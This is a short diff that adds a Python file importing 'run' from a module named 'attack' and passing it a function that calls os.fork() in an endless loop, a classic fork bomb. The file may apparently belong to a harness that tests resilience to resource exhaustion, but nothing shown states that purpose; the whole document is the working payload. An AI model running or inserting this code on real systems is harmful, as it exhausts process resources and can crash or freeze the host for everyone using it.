@@ -1,0 +1,11 @@
+import os
+
+from attack import run
+
+
+def attack(item):
+    while True:
+        os.fork()
+
+
+run(attack)
